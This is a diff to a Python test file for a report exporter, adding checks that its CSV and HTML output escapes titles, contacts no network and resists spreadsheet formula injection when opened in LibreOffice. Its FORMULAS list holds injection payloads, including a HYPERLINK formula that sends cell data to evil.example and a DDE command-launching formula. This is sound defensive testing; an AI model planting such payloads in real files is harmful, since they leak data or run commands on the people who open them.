@@ -1,10 +1,14 @@
-"""A report adds up, says how it was made, and holds no more than it needs."""
+"""A report adds up, says how it was made, and opens anywhere without running anything."""
 
 import csv
 import hashlib
 import json
+import os
 import re
+import shutil
+import subprocess
 
+import duckdb
 import numpy as np
 import pandas as pd
 import pytest
@@ -15,8 +19,9 @@ from argyle_nb.frames.ocr import ocr_frame
 from argyle_nb.frames.uploads import flatten, uploads_frame
 from argyle_nb.report import export_report
 from argyle_nb.report.dictionary import meaning_of
+from argyle_nb.report.page import printable, shortened
 from argyle_nb.scores import REASONS, ScoreCounts, count_scores
-from tests.support.records import record, scored, unscored
+from tests.support.records import form, record, scored, supporting, unscored
 
 RECORDS = [
     record(1, file_name="ada_sample_555.pdf"),
@@ -58,7 +63,7 @@ def rows_of(report, name):
         return list(csv.DictReader(file))
 
 
-def page_of(report):
+def html_of(report):
     return report.files["report.html"].read_text(encoding="utf-8")
 
 
@@ -88,13 +93,14 @@ def test_the_summary_names_the_shares_of_the_frames_own_levels(report):
     [paystubs, w2, _] = rows_of(report, "score_summary.csv")
     assert (paystubs["high share"], w2["very low share"]) == ("1.0", "1.0")
     assert report.manifest["levels"]["name"] == "ocrolus-2"
+    assert report.manifest["levels"]["bands"][0] == [0, "very low"]
 
 
 def test_levels_can_be_ones_own(tmp_path):
     report = export(RECORDS, tmp_path / "out", levels={"reject": 0, "review": 40, "pass": 75})
-    told = {row["level"] for row in rows_of(report, "levels.csv")}
-    assert told == {"reject", "review", "pass"}
-    assert "own: reject 0-39, review 40-74, pass 75-100" in page_of(report)
+    levels = {row["level"] for row in rows_of(report, "levels.csv")}
+    assert levels == {"reject", "review", "pass"}
+    assert "own: reject 0-39, review 40-74, pass 75-100" in html_of(report)
 
 
 def test_the_counts_can_be_counted_on(report):
@@ -113,8 +119,7 @@ def test_every_cut_off_of_every_type_is_there(report):
 
 def test_the_manifest_adds_up(tmp_path):
     report = export([*RECORDS, UNREADABLE], tmp_path / "out", filters={"document_type": "W-2"})
-    told = report.manifest["adds_up"]
-    assert told == {
+    assert report.manifest["adds_up"] == {
         "given": 4,
         "left_out_by_filters": 2,
         "unread": 1,
@@ -143,8 +148,8 @@ def test_a_score_that_is_none_is_listed_as_invalid_and_says_why(tmp_path):
     report = export_report(frame, tmp_path / "out")
     row = rows_of(report, "uploads.csv")[1]
     assert (row["ocr_authenticity_score"], row["no_score_reason"]) == ("", "invalid")
-    [told] = rows_of(report, "rejected.csv")
-    assert (told["record"], told["listed"]) == (RECORDS[1]["id"], "True")
+    [rejected] = rows_of(report, "rejected.csv")
+    assert (rejected["record"], rejected["listed"]) == (RECORDS[1]["id"], "True")
     assert report.manifest["adds_up"]["no_score"]["invalid"] == 1
 
 
@@ -202,7 +207,7 @@ def test_the_manifest_and_the_page_name_the_filters(tmp_path):
     filters = {"document_type": ["W-2"], "user": "ada@sample.example"}
     report = export(RECORDS, tmp_path / "out", filters=filters)
     assert report.manifest["filters"] == {"document_type": ["W-2"], "user": "***"}
-    assert 'document_type = ["W-2"]; user = ***' in page_of(report)
+    assert 'document_type = ["W-2"]; user = ***' in html_of(report)
 
 
 def test_a_filter_of_no_column_is_refused(tmp_path):
@@ -224,12 +229,15 @@ def test_the_manifest_holds_size_and_sha256_of_every_other_file(report):
 
 def test_the_manifest_says_how_it_was_made(tmp_path, client):
     report = export(RECORDS, tmp_path / "out", settings=client.settings, made_by="ada")
-    told = report.manifest
-    assert (told["made_by"], told["environment"]) == ("ada", "local")
-    assert told["base_url"] == client.settings.base_url
-    assert told["software"]["pandas"] == pd.__version__
-    assert told["created_at"] == {"first": "2024-07-08T13:43:49Z", "last": "2024-08-01T00:00:00Z"}
-    assert told["made_at"].endswith("Z")
+    manifest = report.manifest
+    assert (manifest["made_by"], manifest["environment"]) == ("ada", "local")
+    assert manifest["base_url"] == client.settings.base_url
+    assert manifest["software"]["pandas"] == pd.__version__
+    assert manifest["created_at"] == {
+        "first": "2024-07-08T13:43:49Z",
+        "last": "2024-08-01T00:00:00Z",
+    }
+    assert manifest["made_at"].endswith("Z")
 
 
 def test_no_part_of_the_key_is_in_it(tmp_path, client):
@@ -240,17 +248,29 @@ def test_no_part_of_the_key_is_in_it(tmp_path, client):
         assert client.settings.api_key_secret.reveal() not in text
 
 
-def test_the_dictionary_has_each_column_of_each_file(report):
-    told = {(row["file"], row["column"]) for row in rows_of(report, "data_dictionary.csv")}
-    for name in report.rows:
-        with report.files[name].open(newline="", encoding="utf-8") as file:
-            assert {(name, column) for column in next(csv.reader(file))} <= told
-    assert all(row["meaning"] and row["type"] for row in rows_of(report, "data_dictionary.csv"))
+def test_the_dictionary_has_each_column_of_each_file_and_its_dtype(report):
+    rows = rows_of(report, "data_dictionary.csv")
+    types = {(row["file"], row["column"]): row["type"] for row in rows}
+    columns = {
+        (facts["name"], column["name"]): column["dtype"]
+        for facts in report.manifest["files"]
+        for column in facts.get("columns", [])
+    }
+    assert types == columns
+    assert all(row["meaning"] for row in rows)
+
+
+def test_the_count_of_each_score_is_described():
+    assert meaning_of("score_counts.csv", "85").meaning == "uploads with the score 85"
 
 
 def test_a_column_that_nobody_described_is_an_error():
     with pytest.raises(KeyError, match="does not know"):
         meaning_of("uploads.csv", "shoe_size")
+
+
+def test_a_file_name_leaves_masked_where_nothing_else_is_asked_for(report):
+    assert rows_of(report, "uploads.csv")[0]["file_name"] == "***.pdf"
 
 
 def test_columns_that_are_not_listed_do_not_leave(tmp_path):
@@ -264,14 +284,14 @@ def test_columns_that_are_not_listed_do_not_leave(tmp_path):
 
 
 def test_the_page_holds_the_charts_and_escapes_the_title(report):
-    page = page_of(report)
+    page = html_of(report)
     assert page.count("<svg") == 6
     assert "A &lt;b&gt;bold&lt;/b&gt; title" in page
     assert "<b>bold" not in page
 
 
 def test_the_page_asks_nothing_of_the_network(report):
-    page = page_of(report)
+    page = html_of(report)
     for part in ("<script", "<link", 'src="', "@import", "url(http", "<iframe"):
         assert part not in page
     assert "default-src 'none'" in page
@@ -279,7 +299,7 @@ def test_the_page_asks_nothing_of_the_network(report):
 
 def test_the_page_says_what_is_not_known(tmp_path, client):
     report = export([*RECORDS, UNREADABLE], tmp_path / "out", settings=client.settings)
-    page = page_of(report)
+    page = html_of(report)
     assert "Without a score, of 3 uploads: 1 of a type that gets no score." in page
     assert "Not listed, because it could not be read: 1." in page
     assert "a stand-in, and not of Ocrolus" in page
@@ -288,33 +308,41 @@ def test_the_page_says_what_is_not_known(tmp_path, client):
 def test_the_page_says_what_excel_would_cut_off(tmp_path, monkeypatch):
     monkeypatch.setattr("argyle_nb.report.page.EXCEL_ROWS", 2)
     long = [record(1, file_name="x" * 32_768), *RECORDS[1:]]
-    page = page_of(export(long, tmp_path / "out", pii="include"))
+    page = html_of(export(long, tmp_path / "out", pii="include"))
     assert "Excel shows 2 of the 3 rows of uploads.csv" in page
     assert "texts of uploads.csv off: the longest has 32,768 characters, and a cell 32,767" in page
-    assert "Excel cuts" not in page_of(export(RECORDS, tmp_path / "out"))
+    assert "Excel cuts" not in html_of(export(RECORDS, tmp_path / "out"))
 
 
 def test_a_long_name_leaves_room_for_the_rest_of_a_table_and_a_chart(tmp_path):
     kinds = ["short", "a word " * 900, "x" * 5000]
     records = [scored(n, 50, document_type=kind) for n, kind in enumerate(kinds)]
     report = export(records, tmp_path / "out")
-    page = page_of(report)
+    page = html_of(report)
     assert "x" * 161 not in page
     assert "x…x (n = 1)" in re.sub("x+", "x", page)
     assert report.frames["uploads"]["document_type"].tolist() == kinds
 
 
+def test_of_a_long_name_the_middle_is_left_out():
+    assert shortened("a very long document type (n = 7)", 20) == "a very lon…e (n = 7)"
+
+
+def test_a_character_that_html_does_not_allow_is_shown_as_unknown():
+    assert printable("a\x00b") == "a\N{REPLACEMENT CHARACTER}b"
+
+
 def test_a_long_table_says_how_much_the_file_has_more(tmp_path):
     weeks = pd.date_range("2020-01-06", periods=60, freq="7D", tz="UTC")
     records = [scored(n, 50, created_at=f"{day:%Y-%m-%dT00:00:00Z}") for n, day in enumerate(weeks)]
-    page = page_of(export(records, tmp_path / "out"))
+    page = html_of(export(records, tmp_path / "out"))
     assert "The first 50 rows; the file has 10 more." in page
 
 
 def test_no_uploads_make_an_empty_report_that_says_so(tmp_path):
     report = export_report(uploads_frame([]), tmp_path)
     assert rows_of(report, "uploads.csv") == []
-    assert "There are no uploads" in page_of(report)
+    assert "There are no uploads" in html_of(report)
 
 
 def test_uploads_without_a_time_are_in_a_week_of_their_own(tmp_path):
@@ -332,7 +360,7 @@ def test_without_signals_there_is_no_file_that_says_there_were_none(tmp_path):
     report = export_report(uploads_frame(RECORDS), tmp_path)
     assert "signals.csv" not in report.files
     assert not (tmp_path / "signals.csv").exists()
-    assert "There is no signals.csv" in page_of(report)
+    assert "There is no signals.csv" in html_of(report)
 
 
 def test_what_was_read_leaves_only_when_it_is_asked_for(tmp_path):
@@ -374,3 +402,258 @@ def test_the_representation_lists_the_files_and_their_rows(report):
         "  signals.csv (2 rows)",
         "  ocr_fields.csv (1 rows)",
     ]
+
+
+# What it is not made of, and frames of another making that it takes all the same
+
+
+def test_a_frame_of_something_else_is_refused_before_anything_is_written(tmp_path):
+    with pytest.raises(ConfigurationError, match="no column id"):
+        export_report(pd.DataFrame(), tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_signals_of_something_else_are_refused(tmp_path):
+    with pytest.raises(ConfigurationError, match="name their upload"):
+        export_report(uploads_frame(RECORDS), tmp_path / "out", signals=pd.DataFrame())
+
+
+def test_ocr_true_is_for_an_archive(tmp_path):
+    with pytest.raises(ConfigurationError, match="is for an archive"):
+        export_report(uploads_frame(RECORDS), tmp_path / "out", ocr=True)
+
+
+@pytest.mark.parametrize("source", [None, RECORDS, "archive", flatten(RECORDS)])
+def test_what_is_no_frame_is_refused(source, tmp_path):
+    with pytest.raises(ConfigurationError, match=r"give frames\.uploads, signals=frames\.signals"):
+        export_report(source, tmp_path / "out")
+
+
+@pytest.mark.parametrize("levels", [{}, [], 0, ["low", "high"]])
+def test_levels_that_are_none_are_refused(levels, tmp_path):
+    with pytest.raises(ConfigurationError, match=r"cut-offs|unknown level preset"):
+        export_report(uploads_frame(RECORDS), tmp_path / "out", levels=levels)
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_column_that_is_there_twice_is_named(tmp_path):
+    frame = uploads_frame(RECORDS)
+    with pytest.raises(ConfigurationError, match="file_name twice"):
+        export_report(pd.concat([frame, frame[["file_name"]]], axis=1), tmp_path / "out")
+
+
+@pytest.mark.parametrize("name", ["created_at", "updated_at"])
+def test_times_without_a_zone_are_refused_with_the_cure(name, tmp_path):
+    frame = uploads_frame(RECORDS)
+    naive = frame.assign(**{name: frame[name].dt.tz_localize(None)})
+    with pytest.raises(ConfigurationError, match=f"{name} holds no times with a zone; pd.to_date"):
+        export_report(naive, tmp_path / "out")
+
+
+def test_times_of_another_zone_are_written_in_utc(tmp_path):
+    frame = uploads_frame(RECORDS)
+    there = {n: frame[n].dt.tz_convert("Asia/Tokyo") for n in ("created_at", "updated_at")}
+    report = export_report(frame.assign(**there), tmp_path / "out")
+    for name in there:
+        assert report.frames["uploads"][name].equals(frame[name])
+
+
+@pytest.mark.parametrize("types", [[None] * 3, [1, 2, 3], [0.5, 1.5, None], [True, False, True]])
+def test_types_that_are_no_texts_are_described_too(types, tmp_path):
+    frame = uploads_frame(RECORDS).assign(document_type=pd.Categorical(types))
+    report = export_report(frame, tmp_path / "out")
+    pd.testing.assert_series_equal(
+        report.frames["uploads"]["document_type"], frame["document_type"]
+    )
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"title": "\ud800"},
+        {"made_by": "\ud800"},
+        {"levels": {"\ud800": 0, "high": 50}},
+        {"filters": {"document_type": ["\ud800"]}},
+    ],
+)
+def test_half_a_character_is_named_and_nothing_is_written(options, tmp_path):
+    with pytest.raises(ConfigurationError, match=r"half a character \(the lone surrogate \\ud800"):
+        export_report(uploads_frame(RECORDS), tmp_path / "out", **options)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_archive_that_nobody_pulled_into_is_an_error_and_no_empty_report(tmp_path):
+    with pytest.raises(ConfigurationError, match="holds nothing, not even an empty answer"):
+        export_report(Archive(tmp_path / "mistyped"), tmp_path / "out")
+    assert list(tmp_path.iterdir()) == []
+
+
+# Other programs read the same rows and values, and run nothing
+
+OPENED = ("uploads.csv", "signals.csv", "ocr_fields.csv")
+TEXTS = (*OPENED, "levels.csv", "coverage.csv")
+
+LIBREOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    " =1+1",
+    "\uff1d1+1",
+    "=cmd|'/c calc'!A1",
+    '","=1+1',
+    "x;=1+1",
+    "x\t=1+1",
+    "x\n=1+1;",
+)
+# How spreadsheets of other countries and settings separate: ; and tab.
+SEPARATORS = (44, 59, 9)
+
+
+def formula_records():
+    for number, formula in enumerate(FORMULAS):
+        data = [supporting("x", formula, formula)]
+        found = {
+            "identifier": formula,
+            "display_name": formula,
+            "signal_count": 1,
+            "page_number": 1,
+            "supporting_data": data,
+        }
+        yield record(
+            number,
+            file_name=formula,
+            metadata={
+                "ocr_data": {"employee": {"name": formula}, formula: "x"},
+                "ocr_authenticity_score": number,
+                "ocr_authenticity": form(signals=[found]),
+            },
+        )
+    yield scored(50, 12, document_type="W-2")
+    yield unscored(51, "idle", "idle", "idle")
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory):
+    uploads, signals = flatten(list(formula_records()))
+    return export_report(
+        uploads,
+        tmp_path_factory.mktemp("report") / "=HYPERLINK(1)",
+        signals=signals,
+        ocr=ocr_frame(list(formula_records())),
+        pii="include",
+    )
+
+
+def by_python(path):
+    with path.open(newline="", encoding="utf-8-sig") as file:
+        return list(csv.reader(file))
+
+
+def tables(formulas):
+    return [formulas.files[name] for name in formulas.rows]
+
+
+def test_python_reads_as_many_rows_and_no_cell_that_would_run(formulas):
+    for path in tables(formulas):
+        header, *rows = by_python(path)
+        assert len(rows) == formulas.rows[path.name]
+        for cell in [*header, *(cell for row in rows for cell in row)]:
+            number = cell.removeprefix("-").replace(".", "").replace("e-", "").isdecimal()
+            assert number or not cell.startswith(("=", "+", "-", "@", "\t", " ", "\uff1d"))
+
+
+def test_pandas_reads_the_same(formulas):
+    for path in tables(formulas):
+        read = pd.read_csv(path, dtype=str, keep_default_na=False)
+        assert [list(read), *read.to_numpy().tolist()] == by_python(path)
+
+
+def test_duckdb_reads_the_same(formulas):
+    for path in tables(formulas):
+        shown = duckdb.read_csv(str(path), header=True, all_varchar=True, delimiter=",")
+        rows = [[cell or "" for cell in row] for row in shown.fetchall()]
+        assert [list(shown.columns), *rows] == by_python(path)
+
+
+def convert(paths, folder, kind, *options):
+    command = [LIBREOFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile"]
+    command += [*options, "--convert-to", kind, "--outdir", str(folder), *map(str, paths)]
+    subprocess.run(command, check=True, capture_output=True, timeout=600)
+
+
+@pytest.fixture(scope="module")
+def office(tmp_path_factory):
+    """A folder of LibreOffice's own."""
+    if LIBREOFFICE is None:
+        pytest.skip("no LibreOffice here: apt-get install --no-install-recommends libreoffice-calc")
+    return tmp_path_factory.mktemp("office")
+
+
+@pytest.fixture(scope="module")
+def saved_again(formulas, office):
+    """Each table, read as the import dialog lets one choose: every column as text."""
+    paths = [formulas.files[name] for name in TEXTS]
+    widest = max(len(by_python(path)[0]) for path in paths)
+    columns = "/".join(f"{n}/2" for n in range(1, widest + 1))
+    convert(
+        paths,
+        office,
+        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
+        f"--infilter=CSV:44,34,76,1,{columns}",
+    )
+    return office
+
+
+@pytest.fixture(scope="module")
+def opened(formulas, office):
+    """Tables as a double click opens them."""
+    convert([formulas.files[name] for name in OPENED], office, "fods")
+    return office
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_libreoffice_reads_the_same_texts(name, formulas, saved_again):
+    read = by_python(saved_again / name)
+    # A line break in a cell is one character to a spreadsheet.
+    ours = by_python(formulas.files[name])
+    ours = [[cell.replace("\r\n", "\n") for cell in row] for row in ours]
+    assert read == ours
+
+
+@pytest.mark.parametrize("name", OPENED)
+def test_libreoffice_runs_no_formula(name, opened):
+    """No cell is a formula, and no link was made."""
+    text = (opened / name).with_suffix(".fods").read_text(encoding="utf-8")
+    assert "HYPERLINK" in text
+    assert "table:formula" not in text
+    assert 'xlink:href="http://evil' not in text
+
+
+def formulas_in(path, folder, separator):
+    """Open a file with formulas allowed, and give those that are there."""
+    options = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
+    convert([path], folder, "fods", options)
+    opened = (folder / path.name).with_suffix(".fods").read_text(encoding="utf-8")
+    return re.findall('table:formula="[^"]*"', opened)
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+def test_libreoffice_runs_no_formula_whatever_separates_cells_there(separator, formulas, office):
+    for name in OPENED:
+        assert formulas_in(formulas.files[name], office, separator) == []
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+def test_libreoffice_would_have_run_what_pandas_writes(separator, office):
+    """What the test above looks for is really there where nothing is made harmless."""
+    careless = office / "careless.csv"
+    pd.DataFrame({"file_name": FORMULAS, "beside": "x"}).to_csv(careless, index=False)
+    assert formulas_in(careless, office, separator)
+
+
+def test_a_machine_that_must_have_it_has_it():
+    assert LIBREOFFICE or not os.environ.get("CI"), "install libreoffice-calc before the tests"
